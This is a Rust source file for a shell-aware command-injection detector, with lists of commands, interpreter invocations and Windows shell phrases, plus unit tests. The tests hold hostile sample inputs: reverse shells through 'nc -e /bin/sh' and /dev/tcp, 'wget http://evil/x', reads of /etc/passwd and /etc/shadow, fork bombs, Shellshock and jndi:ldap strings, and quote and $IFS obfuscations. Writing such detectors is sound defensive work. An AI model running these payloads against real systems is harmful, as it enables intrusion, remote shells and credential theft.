//! Command injection: a small shell-aware scan, not a pile of regexes.
//!
//! The value is read the way a shell would split it: command positions are the start of the
//! value and whatever follows a separator (`;`, `|`, `&`, a newline, `$(`, a backtick, `{`).
//! The word at a command position is de-obfuscated the way the shell would (quotes and
//! backslashes inside it removed: `c'a't` is `cat`, `/bin/c\at` is `cat`), and is an attack if
//! it names a known command. Substitution, `$IFS`-style evasions, direct interpreter or network
//! tool invocations and Windows `cmd`/PowerShell syntax have rules of their own.

use super::anchor::{longest_piece, Anchors};
use super::wordset::WordSet;
use super::{
    Lowered, Rule, RCE_CHAINED_COMMAND, RCE_SHELL_EVASION, RCE_SHELL_INVOCATION, RCE_SUBSTITUTION,
    RCE_WINDOWS,
};
use std::borrow::Cow;

/// Commands an injected payload runs that are not English words: matched at any command
/// position.
const COMMANDS: [&str; 143] = [
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "busybox",
    "python",
    "python2",
    "python3",
    "perl",
    "php",
    "ruby",
    "lua",
    "node",
    "nodejs",
    "nslookup",
    "chmod",
    "chown",
    "chgrp",
    "killall",
    "pkill",
    "printenv",
    "grep",
    "egrep",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "telnet",
    "ssh",
    "scp",
    "ftp",
    "tftp",
    "base64",
    "xxd",
    "nohup",
    "crontab",
    "sudo",
    "passwd",
    "useradd",
    "ifconfig",
    "netstat",
    "systemctl",
    "reboot",
    "shutdown",
    "mkfifo",
    "mknod",
    "gcc",
    "tar",
    "whereis",
    "hostname",
    "lsof",
    "socat",
    "openssl",
    "sftp",
    "ls",
    "id",
    "pwd",
    "sh",
    "ps",
    "flock",
    "cpulimit",
    "gdb",
    "c89",
    "c99",
    "base32",
    "nmap",
    "tcpdump",
    "strace",
    "ltrace",
    "xterm",
    "expect",
    "docker",
    "kubectl",
    "mysql",
    "psql",
    "sqlite3",
    "rsync",
    "taskset",
    "ionice",
    "stdbuf",
    "tmux",
    "visudo",
    "chattr",
    "setfacl",
    "perf",
    "mawk",
    "nawk",
    "hexdump",
    "zip",
    "unzip",
    "gzip",
    "bzip2",
    "zcat",
    "bzcat",
    "split",
    "shuf",
    "nl",
    "tac",
    "rev",
    "iconv",
    "jjs",
    "jrunscript",
    "lwp-download",
    "aria2c",
    "axel",
    "scrot",
    "dmesg",
    "usermod",
    "groupadd",
    "nsenter",
    "unshare",
    "chroot",
    "setarch",
    "run-parts",
    "start-stop-daemon",
    "systemd-run",
    "pdksh",
    "mksh",
    "yash",
    "rbash",
    "irb",
    "rake",
    "pip",
    "npm",
    "gem",
    "pip3",
    "cscli",
    "aptitude",
    "htop",
    "rmt",
    "rmt-tar",
    "bcdboot",
    "ssh-copy-id",
    "bsdtar",
];

/// Commands that are also subjects of ordinary text (languages, well-known tools, names).
const TOPICS: [&str; 17] = [
    "axel", "python", "python2", "python3", "perl", "php", "ruby", "lua", "node", "nodejs",
    "docker", "kubectl", "mysql", "psql", "gcc", "ssh", "zip",
];

/// Families of tools named `<family>-<verb>` (`ansible-playbook`, `chef-client`).
const COMMAND_FAMILIES: [&str; 2] = ["ansible", "chef"];

/// Commands that run the command that follows them (`nohup ifconfig`, `time whoami`).
const WRAPPERS: [&str; 10] = [
    "time", "nohup", "sudo", "strace", "ltrace", "nice", "timeout", "env", "xargs", "watch",
];

/// [`COMMANDS`], [`WORD_COMMANDS`], [`TOPICS`] and [`WRAPPERS`] as sets: every word at a
/// command position and every quoted word is looked up, so a lookup must not walk the lists.
static COMMAND_SET: WordSet = WordSet::new(&COMMANDS);
static WORD_COMMAND_SET: WordSet = WordSet::new(&WORD_COMMANDS);
static TOPIC_SET: WordSet = WordSet::new(&TOPICS);
static WRAPPER_SET: WordSet = WordSet::new(&WRAPPERS);

/// Whether `name` is a known command, a member of a command family, or `ansible` itself.
fn is_command(name: &str) -> bool {
    COMMAND_SET.contains(name)
        || COMMAND_FAMILIES.iter().any(|f| {
            name == *f
                || name
                    .strip_prefix(f)
                    .and_then(|r| r.strip_prefix('-'))
                    .is_some_and(|verb| {
                        !verb.is_empty() && verb.bytes().all(|b| b.is_ascii_lowercase())
                    })
        })
}

/// Commands that are also English words (`head`, `sleep`, `cat`): matched only when what
/// follows looks like shell arguments (an option, a path, a number, a variable) or nothing.
const WORD_COMMANDS: [&str; 22] = [
    "cat", "tac", "head", "tail", "more", "less", "find", "host", "sleep", "touch", "kill", "env",
    "dig", "ping", "which", "eval", "exec", "printf", "tee", "rm", "cp", "mv",
];

/// Interpreters and tools that, invoked with these flags, run arbitrary code or open a shell.
const INVOCATIONS: [&str; 12] = [
    "sh -c",
    "bash -c",
    "ksh -c",
    "zsh -c",
    "dash -c",
    "nc -e",
    "ncat -e",
    "python -c",
    "perl -e",
    "php -r",
    "ruby -e",
    "/dev/tcp/",
];

/// Windows shell syntax.
const WINDOWS: [&str; 16] = [
    "cmd /c",
    "cmd.exe",
    "cmd /k",
    "powershell",
    "pwsh",
    "iex(",
    "iex ",
    "iwr ",
    "invoke-expression",
    "invoke-webrequest",
    "%comspec%",
    "certutil -urlcache",
    "bitsadmin",
    "wmic ",
    "for /f",
    "rundll32",
];

/// The command-injection rules that match a decoded value.
pub fn detect(decoded: &[u8]) -> Vec<Rule> {
    detect_with(&Lowered::new(decoded), true)
}

/// [`detect`] on a value's shared lowercase copy, with its prechecks on or off (off only to
/// check that they change nothing: every check then runs on every value).
pub(crate) fn detect_with(value: &Lowered, prechecks: bool) -> Vec<Rule> {
    let text = value.lower();
    let mut out = Vec::new();
    // Substitution is `<(`, `>(`, `$(` or a pair of backticks.
    if text.contains(['(', '`']) && has_substitution(text) {
        out.push(RCE_SUBSTITUTION);
    }
    if command_positions(text)
        .into_iter()
        .any(|start| names_command(text.get(start..).unwrap_or_default()))
        || starts_with_command_and_option(text)
    {
        out.push(RCE_CHAINED_COMMAND);
    }
    // Every evasion needs one of these: a glob's `[`, `$` (`$IFS`, `$((`, `$[`, `$@`, `$9`),
    // a brace expansion's `{`, or a quote or backslash inside a word.
    if text.contains(['[', '$', '{', '\'', '"', '\\']) && has_shell_evasion(text, prechecks) {
        out.push(RCE_SHELL_EVASION);
    }
    // Squeezing only turns blank runs into one blank: a piece without blanks found in the
    // squeezed copy stands in `text` as well. Every invocation has an option (`-c`, `-e`,
    // `-r`: a `-` alone, as in `item-12` or `2-pack`, is not enough) or is `/dev/tcp/`; a fork
    // bomb or a Shellshock definition opens with `()`. Every Windows phrase has one of
    // [`WINDOWS_ANCHORS`].
    let invocation_possible = !prechecks
        || ["-c", "-e", "-r", "/dev/tcp/", "()"]
            .iter()
            .any(|piece| text.contains(piece));
    let windows_possible = !prechecks || WINDOWS_ANCHORS.found_in(text.as_bytes());
    if !invocation_possible && !windows_possible {
        return out;
    }
    let squeezed = squeeze_spaces(text);
    if invocation_possible
        && (INVOCATIONS.iter().any(|i| squeezed.contains(i)) || has_fork_bomb(&squeezed))
    {
        out.push(RCE_SHELL_INVOCATION);
    }
    if windows_possible
        && (WINDOWS.iter().any(|w| squeezed.contains(w))
            || has_windows_if(&squeezed)
            || has_windows_for(&squeezed)
            || has_windows_if_test(&squeezed))
    {
        out.push(RCE_WINDOWS);
    }
    out
}

/// A piece of each [`WINDOWS`] phrase (the longest between blanks), and `if` and `for`,
/// which every `if`/`for` construct ([`has_windows_if`], [`has_windows_if_test`],
/// [`has_windows_for`]) starts with.
static WINDOWS_ANCHORS: Anchors = Anchors::new(|| {
    WINDOWS
        .iter()
        .map(|w| longest_piece(w))
        .chain(["if", "for"])
        .collect()
});

/// Offsets where a shell would expect a command: after `;`, `|`, `&`, a newline, `` ` ``,
/// `$(`, `{`, `(`. The start of the value is not one: a plain word there is ordinary input.
fn command_positions(text: &str) -> Vec<usize> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    for (i, b) in bytes.iter().enumerate() {
        let separator = match b {
            b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'{' => true,
            b'(' => i > 0 && bytes.get(i - 1) == Some(&b'$'),
            _ => false,
        };
        if separator {
            out.push(i + 1);
        }
    }
    out
}

/// Whether the word at the start of `rest` (after blanks, quotes, redirections) names a known
/// command once de-obfuscated. A path prefix is allowed: `/bin/cat`, `/usr/bin/id`.
fn names_command(rest: &str) -> bool {
    let rest = rest.trim_start_matches(|c: char| {
        c.is_ascii_whitespace() || matches!(c, '&' | '|' | ';' | '(' | '{' | '!' | '<' | '>')
    });
    let end = rest
        .find(|c: char| {
            c.is_ascii_whitespace()
                || matches!(c, ';' | '|' | '&' | '<' | '>' | ')' | '}' | ',' | '`')
        })
        .unwrap_or(rest.len());
    let word = without_quotes(rest.get(..end).unwrap_or_default());
    let word = word.trim_start_matches('$');
    let name = word.rsplit('/').next().unwrap_or(word);
    let name = name.split(['$', '{']).next().unwrap_or(name);
    if name.is_empty() {
        return false;
    }
    if is_command(name) {
        return true;
    }
    let args = rest.get(end..).unwrap_or_default();
    // `alias x=…` defines a command to run later.
    if name == "alias" {
        let arg = args.trim_start();
        return arg.starts_with("-p") || arg.split(' ').next().is_some_and(|a| a.contains('='));
    }
    // cmd.exe's `cat`, and an instruction word ("type 'yes' here"): only reading a file named
    // by a batch variable or a drive (`type %SystemDrive%\boot.ini`, `type c:\x`).
    if name == "type" {
        let arg = args.trim_start().as_bytes();
        return arg.first() == Some(&b'%')
            || (arg.first().is_some_and(u8::is_ascii_alphabetic)
                && arg.get(1..3) == Some(b":\\".as_slice()));
    }
    WORD_COMMAND_SET.contains(name) && shell_like_arguments(args)
}

/// `word` without the quotes and backslashes a shell removes (`c'a't` is `cat`); borrowed when
/// it has none, as most words.
fn without_quotes(word: &str) -> Cow<'_, str> {
    if word.contains(['\'', '"', '\\']) {
        Cow::Owned(
            word.chars()
                .filter(|c| !matches!(c, '\'' | '"' | '\\'))
                .collect(),
        )
    } else {
        Cow::Borrowed(word)
    }
}

/// Nothing, or a first argument an English sentence would not have: `-n`, `/etc`, `5`, `$x`,
/// `~`, `.`, a redirection or a separator, a cmd.exe variable (`%SystemDrive%`).
fn shell_like_arguments(after: &str) -> bool {
    let arg = after.trim_start_matches([' ', '\t']);
    match arg.chars().next() {
        None => true,
        Some(c) => {
            c.is_ascii_digit()
                || matches!(
                    c,
                    '-' | '/'
                        | '$'
                        | '~'
                        | '.'
                        | '<'
                        | '>'
                        | ';'
                        | '|'
                        | '&'
                        | '`'
                        | '\''
                        | '"'
                        | '\n'
                        | '\r'
                        | '*'
                        | '{'
                        | '%'
                )
        }
    }
}

/// A whole value that is a command line: a known command, a blank, then an option
/// (`env --version`, `nc -nlvp 555`). A value starting with a command name alone is ordinary
/// input ("cat videos", "curl/8.0").
fn starts_with_command_and_option(text: &str) -> bool {
    let trimmed = text.trim_start().trim_start_matches(['\'', '"']);
    let first = trimmed
        .split([' ', '\t', '\n', '\r', '\'', '"'])
        .next()
        .unwrap_or_default();
    // A command line as a form submits it, ended by a line break (`visudo\n`), a command run
    // through a wrapper (`nohup ifconfig`), or a defined alias.
    // A short line only, and not a tool people write about ("python tutorial\n").
    // Its arguments must look like a command's (an option, a path, a file name): "Axel Smith\n"
    // is a name.
    // (Only worked out for a command: the common case allocates nothing.)
    let line_break = || {
        let args: Vec<&str> = trimmed.split_whitespace().skip(1).collect();
        text.trim_end_matches([' ', '\t']).ends_with('\n')
            && trimmed.lines().count() == 1
            && args.len() <= 3
            && args
                .iter()
                .all(|a| a.starts_with('-') || a.contains(['/', '.', '=']))
            && !TOPIC_SET.contains(first)
    };
    if is_command(first)
        && (line_break()
            || trimmed
                .get(first.len()..)
                .is_some_and(|r| r.starts_with([' ', '\t']) && has_option(r)))
    {
        return true;
    }
    if WRAPPER_SET.contains(first) && names_command(trimmed.get(first.len()..).unwrap_or_default())
    {
        return true;
    }
    if first == "alias" && names_command(trimmed) {
        return true;
    }
    let Some((word, rest)) = trimmed.split_once([' ', '\t']) else {
        return false;
    };
    let rest = rest.trim_start();
    let option = rest.starts_with('-')
        && rest
            .chars()
            .nth(1)
            .is_some_and(|c| c.is_ascii_alphabetic() || c == '-');
    // `cat /etc/pa[s]swd`: a command with an absolute path.
    let path = rest.starts_with('/')
        && rest
            .chars()
            .nth(1)
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '[');
    (option || path) && (COMMAND_SET.contains(word) || WORD_COMMAND_SET.contains(word))
}

/// A shell function that calls itself twice through a pipe and the background, `f(){ f|f& };f`
/// (the fork bomb, whatever the function is named), or a Shellshock function definition
/// `() { …` at the start of a value.
fn has_fork_bomb(squeezed: &str) -> bool {
    if squeezed.trim_start().starts_with("() {") || squeezed.trim_start().starts_with("(){") {
        return true;
    }
    ["(){", "() {"].iter().any(|open| {
        squeezed.match_indices(open).any(|(i, _)| {
            let before = squeezed.get(..i).unwrap_or_default();
            let name_start = before
                .rfind(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '&' | '|'))
                .map_or(0, |p| p + 1);
            let name = before.get(name_start..).unwrap_or_default();
            let body = squeezed
                .get(i + open.len()..)
                .unwrap_or_default()
                .trim_start();
            !name.is_empty()
                && body
                    .strip_prefix(name)
                    .map(|r| r.trim_start_matches("()").trim_start())
                    .is_some_and(|r| r.starts_with('|'))
        })
    })
}

/// An option (`-m`, `--url`) somewhere on the first line.
fn has_option(rest: &str) -> bool {
    let line = rest.split('\n').next().unwrap_or_default();
    line.split([' ', '\t']).any(|w| {
        let w = w.strip_prefix("--").or_else(|| w.strip_prefix('-'));
        w.is_some_and(|o| o.chars().next().is_some_and(|c| c.is_ascii_alphabetic()))
    })
}

/// `$(…)` or a backtick pair with something inside.
fn has_substitution(text: &str) -> bool {
    // Process substitution: `<(cmd)`, `>(cmd)`.
    let process = ["<(", ">("].iter().any(|p| {
        text.match_indices(p).any(|(i, _)| {
            text.get(i + 2..)
                .and_then(|r| r.split(')').next().filter(|_| r.contains(')')))
                .is_some_and(|inner| {
                    !inner.is_empty()
                        && inner.bytes().all(|b| {
                            b.is_ascii_alphanumeric() || b == b' ' || b == b'-' || b == b'/'
                        })
                })
        })
    });
    let dollar = text.match_indices("$(").any(|(i, _)| {
        text.get(i + 2..)
            .is_some_and(|r| r.contains(')') && names_command(r))
    });
    let backticks =
        text.matches('`').count() >= 2 && text.split('`').nth(1).is_some_and(names_command);
    process || dollar || backticks
}

/// `$IFS`, `${IFS}`, brace expansion with a comma (`{cat,/etc/passwd}`), `$@`/`$9` splitting a
/// command word (`ca$@t`), and a known command spelled with quotes or backslashes.
fn has_shell_evasion(text: &str, prechecks: bool) -> bool {
    if has_path_glob(text) {
        return true;
    }
    // Precheck: each literal below starts with `$` (most values have none; six substring
    // searches saved).
    if (!prechecks || text.contains('$'))
        && (text.contains("$((")
            || text.contains("$[")
            || text.contains("$ifs")
            || text.contains("${ifs")
            || text.contains("$'\\x")
            || text.contains("${jndi:"))
    {
        return true;
    }
    let brace = text.match_indices('{').any(|(i, _)| {
        let inner = text
            .get(i + 1..)
            .and_then(|r| r.split('}').next())
            .unwrap_or_default();
        inner.contains(',') && names_command(&inner.replacen(',', " ", 1))
    });
    if brace {
        return true;
    }
    // A command word glued together from pieces: c'a't, c\at, ca$@t, w"h"oami.
    text.split(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&'))
        .any(|word| {
            let obfuscated =
                word.contains(['\'', '"', '\\']) || word.contains("$@") || word.contains("$9");
            // (Most words are not: they are not copied.)
            if !obfuscated {
                return false;
            }
            // (Each step copies only if it has something to remove: most words have no `$`.)
            let mut cleaned = Cow::Borrowed(word);
            for splitter in ["$@", "$9"] {
                if cleaned.contains(splitter) {
                    cleaned = Cow::Owned(cleaned.replace(splitter, ""));
                }
            }
            let cleaned = without_quotes(&cleaned).into_owned();
            let name = cleaned.rsplit('/').next().unwrap_or(&cleaned);
            obfuscated
                && cleaned != word
                && name.len() > 1
                && (COMMAND_SET.contains(name) || WORD_COMMAND_SET.contains(name))
        })
}

/// A bracket glob inside an absolute path (`/etc/[p]asswd`, `/usr/[a-z]in/bash`,
/// `/bi[n]/sh`): the shell expands it to a file name a filter looking for the name misses.
fn has_path_glob(text: &str) -> bool {
    text.match_indices('[').any(|(i, _)| {
        let segment_start = text.get(..i).and_then(|b| b.rfind('/'));
        let Some(slash) = segment_start else {
            return false;
        };
        let prefix = text.get(slash + 1..i).unwrap_or_default();
        let class = text
            .get(i + 1..)
            .and_then(|r| r.split(']').next().filter(|_| r.contains(']')))
            .unwrap_or_default();
        let class_body = class.trim_start_matches(['!', '^']);
        prefix.bytes().all(|b| b.is_ascii_alphanumeric())
            && !class_body.is_empty()
            && class_body.len() <= 8
            && class_body
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b == b'-')
            // the path goes on: `/etc/[p]asswd`, not `/list/[abc]`
            && text
                .get(i + class.len() + 2..)
                .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '/'))
    })
}

/// cmd.exe's `for`: `for [/d|/r|/l|/f] %x in (…) do …`.
fn has_windows_for(squeezed: &str) -> bool {
    squeezed.match_indices("for ").any(|(i, _)| {
        let rest = squeezed.get(i..).unwrap_or_default();
        rest.contains('%')
            && rest.contains(" in (")
            && (rest.contains(" do ") || rest.contains(")do "))
    })
}

/// cmd.exe's `if` with a batch variable or test: `if %a% gtr %b%`, `if "%1"==""`,
/// `if not defined x`.
fn has_windows_if_test(squeezed: &str) -> bool {
    squeezed.match_indices("if ").any(|(i, _)| {
        let starts_word = i == 0
            || squeezed
                .get(..i)
                .is_some_and(|b| b.ends_with([' ', '(', '&', '|', '"']));
        let rest = squeezed.get(i + 3..).unwrap_or_default();
        // `%x%`, `%~1`, `!x!`, or a positional parameter (`%1`, `%*`) not after a number.
        let positional = rest.match_indices('%').any(|(p, _)| {
            rest.get(p + 1..)
                .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_digit() || c == '*'))
                && !rest
                    .get(..p)
                    .is_some_and(|b| b.ends_with(|c: char| c.is_ascii_digit()))
        });
        let batch_var = rest.contains('%') && rest.matches('%').count() >= 2
            || positional
            || rest.contains("%~")
            || rest.matches('!').count() >= 2;
        // `if "a"=="b" echo`, `if not (2 equ 2) echo`, `if cmdextversion 1 goto x`.
        let rest_cmp = rest.trim_start_matches("not ").trim_start_matches("/i ");
        let compare = rest_cmp.split("&&").next().is_some_and(|clause| {
            clause.contains("==")
                || [" equ ", " neq ", " lss ", " leq ", " gtr ", " geq "]
                    .iter()
                    .any(|op| clause.contains(op))
        }) && [
            " echo", " goto", " cd", " set", " call", " exit", " del", " (",
        ]
        .iter()
        .any(|cmd| rest_cmp.contains(cmd));
        starts_word
            && (batch_var
                || compare
                || rest.starts_with("cmdextversion")
                || rest.starts_with("not defined")
                || rest.starts_with("defined "))
    })
}

/// `if /i`, `if not exist`, `if defined`: cmd.exe's `if` forms.
fn has_windows_if(squeezed: &str) -> bool {
    [
        "if /i ",
        "if/i ",
        "if not exist",
        "if exist ",
        "if defined ",
        "if errorlevel",
    ]
    .iter()
    .any(|p| squeezed.contains(p))
}

fn squeeze_spaces(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut last_space = false;
    for c in text.chars() {
        let space = c.is_ascii_whitespace();
        if !(space && last_space) {
            out.push(if space { ' ' } else { c });
        }
        last_space = space;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decode::decode_fully;

    fn ids(v: &str) -> Vec<&'static str> {
        detect(&decode_fully(v.as_bytes(), true, true))
            .into_iter()
            .map(|r| r.id)
            .collect()
    }

    #[test]
    fn prechecks_at_their_edge() {
        // Each invocation by its option piece (blank runs and case squeezed away), `/dev/tcp/`,
        // a fork bomb and a Shellshock definition by `()`, the `$` literals of the evasions:
        // found with the prechecks and without, the same rules.
        for (v, rule) in [
            ("x; SH \t -C id", "rce-004"),
            ("python   -c 'import os'", "rce-004"),
            ("a php -r phpinfo();", "rce-004"),
            ("ncat -e /bin/sh 10.0.0.1", "rce-004"),
            ("exec 3<>/dev/tcp/10.0.0.1/80", "rce-004"),
            (":(){ :|:& };:", "rce-004"),
            ("() { :;}; echo x", "rce-004"),
            ("x=$((1+1))", "rce-003"),
            ("a$[1]b", "rce-003"),
            ("cat$IFS/etc/passwd", "rce-003"),
            ("${jndi:ldap://x/a}", "rce-003"),
            ("$'\\x63at' /etc/passwd", "rce-003"),
        ] {
            let decoded = v.as_bytes();
            let with: Vec<_> = detect_with(&Lowered::new(decoded), true)
                .iter()
                .map(|r| r.id)
                .collect();
            let without: Vec<_> = detect_with(&Lowered::new(decoded), false)
                .iter()
                .map(|r| r.id)
                .collect();
            assert!(with.contains(&rule), "{v}: {with:?}");
            assert_eq!(with, without, "{v}");
        }
        // A `-` without an option letter, `(` without `)`, no `$`: nothing either way.
        for v in [
            "Item 12 (2-pack)",
            "kitchen/dining-room",
            "pay 20 (cash)",
            "it's (fine)",
        ] {
            assert!(
                detect_with(&Lowered::new(v.as_bytes()), true).is_empty(),
                "{v}"
            );
            assert!(
                detect_with(&Lowered::new(v.as_bytes()), false).is_empty(),
                "{v}"
            );
        }
    }

    #[test]
    fn chained_commands() {
        for v in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "x && whoami",
            "x%0Auname+-a",
            "a;/bin/cat /etc/shadow",
            "a; c'a't /etc/passwd",
            "a;w\\hoami",
            "foo||wget http://evil/x",
        ] {
            assert!(ids(v).contains(&"rce-001"), "{v}: {:?}", ids(v));
        }
    }

    #[test]
    fn substitution_evasion_invocation_windows() {
        assert!(ids("$(whoami)").contains(&"rce-002"));
        assert!(ids("`id`").contains(&"rce-002"));
        assert!(ids("cat${IFS}/etc/passwd").contains(&"rce-003"));
        assert!(ids("{cat,/etc/passwd}").contains(&"rce-003"));
        assert!(ids("ca$@t /etc/passwd").contains(&"rce-003"));
        assert!(ids("bash -c 'id'").contains(&"rce-004"));
        assert!(ids("x; nc -e /bin/sh 1.2.3.4 4444").contains(&"rce-004"));
        assert!(ids("exec 5<>/dev/tcp/1.2.3.4/80").contains(&"rce-004"));
        assert!(ids("cmd.exe /c dir").contains(&"rce-005"));
        assert!(ids("powershell -enc AAAA").contains(&"rce-005"));
        assert!(ids("IF /I \"%var%\"==\"x\" ( ECHO found )").contains(&"rce-005"));
        assert!(ids("FOR /D %a IN (dirs) DO abc").contains(&"rce-005"));
        assert!(ids("if %n1% gtr %n2% echo bigger").contains(&"rce-005"));
        assert!(ids("IF NOT DEFINED BAR (").contains(&"rce-005"));
        assert!(ids(";iwr http://example.com/x.ps1").contains(&"rce-005"));
        assert!(ids("cat /etc/pa[s]swd").contains(&"rce-001"));
        assert!(ids("if you want, 100% of it").is_empty());
        assert!(ids("x=<(cmd)").contains(&"rce-002"));
        assert!(ids("${jndi:ldap://evil.com/x}").contains(&"rce-003"));
    }

    #[test]
    fn a_whole_command_line() {
        assert!(ids("env --version").contains(&"rce-001"));
        assert!(ids("perf --version").contains(&"rce-001"));
        assert!(ids(";flock -u / whoami").contains(&"rce-001"));
        assert!(ids("cat videos").is_empty());
        assert!(ids("curl/8.0.1").is_empty());
        assert!(ids("sleep - the best medicine").is_empty());
    }

    #[test]
    fn command_lines_globs_and_windows_tests() {
        for (v, id) in [
            ("visudo\n", "rce-001"),
            ("ansible-playbook site.yml -i hosts", "rce-001"),
            ("chef-client -t 1.1.1.1", "rce-001"),
            ("nohup ifconfig", "rce-001"),
            ("time; ansible-console", "rce-001"),
            ("alias ls-al='ls -al'", "rce-001"),
            ("'visudo'\n", "rce-001"),
            ("pip3 install -r x.txt\n", "rce-001"),
            ("/etc/[p]asswd", "rce-003"),
            ("/usr/[a-z]in/bash", "rce-003"),
            ("/etc/[!abc]asswd", "rce-003"),
            ("$((1+2))", "rce-003"),
            ("f(){ f|f& };f", "rce-004"),
            (":(){ :|:& };:", "rce-004"),
            ("() { :;}; echo vulnerable", "rce-004"),
            ("IF \"2\" GEQ \"15\" echo \"bigger\"", "rce-005"),
            ("if not (2 equ 2) echo hey", "rce-005"),
            ("IF CMDEXTVERSION 1 GOTO start", "rce-005"),
            ("& FOR %~ IN (a,b,c)DO cmd", "rce-005"),
            ("IF \"%1\"==\"/?\" goto help", "rce-005"),
            ("IF [%1]==[/?] ...", "rce-005"),
            ("\" | type %SystemDrive%\\config.ini | \"", "rce-001"),
            ("x & type c:\\boot.ini", "rce-001"),
        ] {
            assert!(ids(v).contains(&id), "{v}: {:?}", ids(v));
        }
        for v in [
            "ansible is a tool",
            "time flies like an arrow",
            "the alias of the user",
            "items[0]",
            "/list/[abc]",
            "function f(){ return a||b };",
            "if a == b then we are done",
            "python tutorial\n",
            "docker for beginners\n",
            "Axel Smith\n",
            "Axel\n",
            "if 50%1 of them agree",
            "if 5% off, buy",
            "blood type: 0+ & type A",
            "what type of sentence; type 'hello' here",
            "& type 5 is rare",
        ] {
            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
        }
    }

    #[test]
    fn ordinary_text_passes() {
        for v in [
            "cat food & dog food",
            "Tom & Jerry; the movie",
            "id=42&sort=asc",
            "fish | chips",
            "I said: ls is a command",
            "price $(USD)",
            "{a,b}",
            "rock'n'roll",
            "it's here",
            "ps: see you",
            "lunch; head to the office",
        ] {
            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
        }
    }

    #[test]
    fn prechecks_keep_every_rule() {
        assert!(WINDOWS_ANCHORS.builds());
        for (v, rule) in [
            ("x $(whoami)", "rce-002"),
            ("x `id`", "rce-002"),
            ("cat <(ls)", "rce-002"),
            ("/bin/c[a]t /etc/passwd", "rce-003"),
            ("x;w'h'oami", "rce-003"),
            ("x${IFS}id", "rce-003"),
            ("{cat,/etc/passwd}", "rce-003"),
            ("x SH\t\t-C id", "rce-004"),
            ("x >/DEV/TCP/1.2.3.4/80", "rce-004"),
            (":(){ :|:& };:", "rce-004"),
            ("x CMD   /C dir", "rce-005"),
            ("x\tPowerShell -enc", "rce-005"),
            ("IF   EXIST c:\\x", "rce-005"),
            ("FOR /F %i in (x) do echo", "rce-005"),
        ] {
            assert!(ids(v).contains(&rule), "{v}: {:?}", ids(v));
        }
    }
}
